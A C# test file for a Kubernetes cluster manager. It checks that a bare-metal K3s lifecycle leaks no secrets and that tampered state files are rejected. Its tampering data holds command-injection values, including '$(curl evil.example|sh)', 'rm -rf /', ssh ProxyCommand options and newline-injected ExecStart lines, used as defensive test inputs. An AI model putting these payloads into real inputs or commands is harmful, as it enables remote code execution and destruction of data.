using System.Text;
using System.Text.Json.Nodes;
using Ksctl.Core.Clusters;
using Ksctl.Core.Diagnostics;
using Ksctl.Core.Model;
using Ksctl.Core.Storage;
using Ksctl.Core.Storage.Protection;
using Ksctl.Core.Storage.Transfer;

namespace Ksctl.Core.Tests.Security;

/// <summary>
/// A whole BareMetal (K3s, HA) lifecycle on recording shells: create, list, resize, delete. Issue #12 item 9's secret
/// scan (no secret in any event, log file, state file, script or error) and item 2's checks of a stored state on
/// every load (get, list, resume, delete, import) run on the states it makes.
/// </summary>
public sealed class BareMetalLifecycleTests : IDisposable
{
    private readonly TempDir _dir = new("ksctl-baremetal");
    private readonly ISecretProtector _key = StateKey.FromBase64(StateKey.Generate());

    public void Dispose() => _dir.Dispose();

    private ClusterSpec Spec(string name)
    {
        var key = _dir.Combine("id_ed25519");
        if (!File.Exists(key)) File.WriteAllText(key, "-----BEGIN OPENSSH PRIVATE KEY-----\nnot used by the recording shells\n-----END OPENSSH PRIVATE KEY-----\n");
        MachineSpec M(int i, NodeRole role) => new() { Address = $"10.0.0.{i}", Role = role, KeyPath = key, HostKey = $"SHA256:FakeHostKeyOfMachine{i:00}xxxxxxxxxxxxxxxxxxxxxx" };
        return new ClusterSpec
        {
            Id = new ClusterId(CloudProvider.BareMetal, ClusterType.SelfManaged, name, "lab"),
            Distribution = DistributionKind.K3s,
            Machines = [M(10, NodeRole.LoadBalancer), M(11, NodeRole.Datastore), M(12, NodeRole.Datastore), M(13, NodeRole.Datastore),
                        M(21, NodeRole.ControlPlane), M(22, NodeRole.ControlPlane), M(23, NodeRole.ControlPlane), M(31, NodeRole.Worker)],
        };
    }

    [Fact]
    public async Task A_full_lifecycle_shows_no_secret_in_any_stream_log_state_file_or_script()
    {
        var events = new EventSink();
        var store = new FileStateStore(_dir.Combine("home", "state"), _key);
        using var recorded = new RecordedManager(_dir.Combine("home"), store, events);
        var manager = recorded.Manager;
        var options = OperationOptions.Default with { ConnectDeadline = TimeSpan.FromSeconds(5) };

        var created = await manager.CreateAsync(Spec("lab"), options, default);
        Assert.Equal(ClusterStatus.Running, created.Status);
        var scan = new SecretScan();
        foreach (var secret in (await manager.GetAsync(created.Id, default)).Secrets.Values) scan.Add(secret);
        Assert.Contains(created.Secrets.Values, v => v.Contains(RecordingShells.K3sToken));
        Assert.True(scan.Count >= 4, $"only {scan.Count} secret fragments to look for");
        var stateFile = File.ReadAllText(store.DocumentPath(created.Id));

        var listing = await manager.ListSummariesAsync(ClusterQuery.All, default);
        Assert.Single(listing.Clusters);
        await manager.ResizeAsync(created.Id, 0, options, default);
        var afterResize = File.ReadAllText(store.DocumentPath(created.Id));
        await manager.DeleteAsync(created.Id, options, default);
        Assert.Null(await store.ReadAsync(created.Id, default));
        recorded.Loggers.Dispose(); // flush the log files

        var places = SecretScan.Events(events)
            .Concat(SecretScan.Files(recorded.Settings.LogPath))
            .Append(("state.json after create", stateFile))
            .Append(("state.json after resize", afterResize))
            .Concat(recorded.Shells.Scripts.Select(s => ($"script {s.Script.Name} on {s.Machine}", s.Script.Name + "\n" + s.Script.Content)))
            .Concat(listing.Clusters.Select(c => ("listing", Encoding.UTF8.GetString(StateSerializer.Serialize(c)))))
            .ToList();
        Assert.NotEmpty(SecretScan.Files(recorded.Settings.LogPath));
        Assert.Contains(events.Events, e => e.Kind == KsctlEventKind.StepCompleted);
        Assert.Empty(scan.Findings(places));
        // The secrets did reach the machines, through uploads (files), which is where they belong.
        Assert.Contains(recorded.Shells.Uploads, u => Encoding.UTF8.GetString(u.Content).Contains(RecordingShells.K3sToken));
    }

    /// <summary>Creates a running cluster in a key-less file store, then lets <paramref name="tamper"/> edit its document.</summary>
    private async Task<(RecordedManager Recorded, FileStateStore Store, ClusterId Id)> TamperedAsync(string name, Action<JsonObject> tamper, ClusterStatus? status = null)
    {
        var store = new FileStateStore(_dir.Combine("plain", "state"));
        var recorded = new RecordedManager(_dir.Combine("plain"), store);
        var created = await recorded.Manager.CreateAsync(Spec(name), OperationOptions.Default with { ConnectDeadline = TimeSpan.FromSeconds(5) }, default);
        var path = store.DocumentPath(created.Id);
        var doc = JsonNode.Parse(File.ReadAllText(path))!.AsObject();
        if (status is { } s) doc["status"] = s.ToString();
        tamper(doc);
        File.WriteAllText(path, doc.ToJsonString());
        while (recorded.Shells.Scripts.TryDequeue(out _)) { }
        while (recorded.Shells.Connects.TryDequeue(out _)) { }
        while (recorded.Shells.Uploads.TryDequeue(out _)) { }
        return (recorded, store, created.Id);
    }

    public static TheoryData<string, string> Tampering => new()
    {
        { "spec.machines.0.address", "10.0.0.10;reboot" },
        { "spec.machines.4.privateAddress", "$(curl evil.example|sh)" },
        { "spec.machines.1.user", "root\nPermitRootLogin" },
        { "spec.kubernetesVersion", "1.33.1; rm -rf /" },
        { "spec.artifactSource", "https://evil.example/'$(id)'" },
        { "nodes.0.publicIP", "10.0.0.10 -oProxyCommand=sh" },
        { "nodes.2.hostname", "h\nExecStart=/bin/sh" },
        { "nodes.3.sshUser", "-oProxyCommand=x" },
        { "spec.id.name", "other" },
        { "nodes", "null" },
    };

    private static void SetPath(JsonObject doc, string path, string value)
    {
        var parts = path.Split('.');
        JsonNode node = doc;
        foreach (var part in parts[..^1]) node = int.TryParse(part, out var i) ? node[i]! : node[part]!;
        JsonNode? v = value == "null" ? null : JsonValue.Create(value);
        if (int.TryParse(parts[^1], out var idx)) node[idx] = v; else node[parts[^1]] = v;
    }

    [Theory]
    [MemberData(nameof(Tampering))]
    public async Task A_stored_state_that_breaks_a_rule_is_KsctlStateInvalid_on_every_load_and_drives_nothing(string path, string value)
    {
        var (recorded, store, id) = await TamperedAsync("victim", doc => SetPath(doc, path, value), ClusterStatus.CreationFailed);
        using var _ = recorded;
        var manager = recorded.Manager;
        var before = File.ReadAllBytes(store.DocumentPath(id));

        var loads = new (string What, Func<Task> Load)[]
        {
            ("get", () => manager.GetAsync(id, default)),
            ("resolve", () => manager.ResolveAsync("victim", null, null, null, default)),
            ("resume", () => manager.CreateAsync(Spec("victim"), OperationOptions.Default, default)),
            ("delete", () => manager.DeleteAsync(id, OperationOptions.Default, default)),
            ("plan delete", () => manager.PlanDeleteAsync(id, default)),
        };
        foreach (var (what, load) in loads)
        {
            var ex = await Assert.ThrowsAsync<StateInvalidException>(load);
            Assert.True(ex.ErrorId == "KsctlStateInvalid", what);
            Assert.Contains("victim (BareMetal/SelfManaged, lab)", ex.Message);
        }
        Assert.Equal(0, recorded.Shells.RemoteCalls);
        Assert.Empty(recorded.Processes.Started);
        Assert.Equal(before, File.ReadAllBytes(store.DocumentPath(id)));

        // Listing skips it with its error and still lists the others.
        await manager.CreateAsync(Spec("fine"), OperationOptions.Default with { ConnectDeadline = TimeSpan.FromSeconds(5) }, default);
        var listing = await manager.ListSummariesAsync(ClusterQuery.All, default);
        Assert.Equal(["fine"], listing.Clusters.Select(c => c.Id.Name));
        Assert.Contains("victim", Assert.IsType<StateInvalidException>(Assert.Single(listing.Errors)).Cluster);
    }

    [Fact]
    public async Task Import_checks_each_cluster_like_a_load_and_writes_nothing_invalid()
    {
        var (recorded, store, id) = await TamperedAsync("exported", doc => SetPath(doc, "spec.machines.0.address", "10.0.0.10`reboot`"));
        using var _ = recorded;
        var state = StateSerializer.Deserialize(File.ReadAllBytes(store.DocumentPath(id)), "test");
        var target = new FileStateStore(_dir.Combine("target"));
        using var importer = new RecordedManager(_dir.Combine("target-home"), target);

        var ex = await Assert.ThrowsAsync<StateInvalidException>(() => importer.Manager.ImportAsync(state, force: true, default));
        Assert.Contains("exported (BareMetal/SelfManaged, lab)", ex.Message);
        Assert.Contains("Address", ex.Message);
        Assert.False(Directory.Exists(target.Root));
    }

    [Fact]
    public async Task An_export_archive_changed_on_the_way_is_refused_on_import()
    {
        var store = new FileStateStore(_dir.Combine("src", "state"));
        using var recorded = new RecordedManager(_dir.Combine("src"), store);
        var created = await recorded.Manager.CreateAsync(Spec("moved"), OperationOptions.Default with { ConnectDeadline = TimeSpan.FromSeconds(5) }, default);
        var archive = _dir.Combine("moved.json");
        var keyFile = _dir.Combine("export.key");
        StateArchive.Write([await recorded.Manager.GetAsync(created.Id, default)], archive, keyFile);
        Assert.Single(StateArchive.Read(archive, keyFile));

        var doc = JsonNode.Parse(File.ReadAllText(archive))!.AsObject();
        doc["clusters"]![0]!["nodes"]![0]!["publicIP"] = "10.9.9.9";
        File.WriteAllText(archive, doc.ToJsonString());
        var ex = Assert.Throws<StateInvalidException>(() => StateArchive.Read(archive, keyFile));
        Assert.Contains("moved (BareMetal/SelfManaged, lab)", ex.Message);
        Assert.Contains("integrity", ex.Message);
    }
}
